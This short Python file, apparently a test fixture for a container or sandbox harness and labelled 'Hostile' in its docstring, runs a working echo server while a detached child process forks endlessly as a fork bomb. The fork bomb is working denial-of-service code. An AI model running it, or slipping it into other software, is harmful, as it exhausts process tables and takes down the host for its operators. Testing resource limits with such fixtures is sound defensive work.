"""Hostile: a fork bomb in the server container, next to a working echo server."""

import contextlib
import os
import socket
import sys


def bomb() -> None:
    while True:
        with contextlib.suppress(OSError):  # the table is full: try again at once
            os.fork()  # parent and child both go on forking


def echo(port: int) -> None:
    with socket.create_server(("", port)) as listener:
        while True:
            conn, _ = listener.accept()
            with conn:
                try:
                    while data := conn.recv(65536):
                        conn.sendall(data)
                except OSError:
                    pass


if __name__ == "__main__":
    if os.fork() == 0:
        os.setsid()
        bomb()
    echo(int(sys.argv[1]))
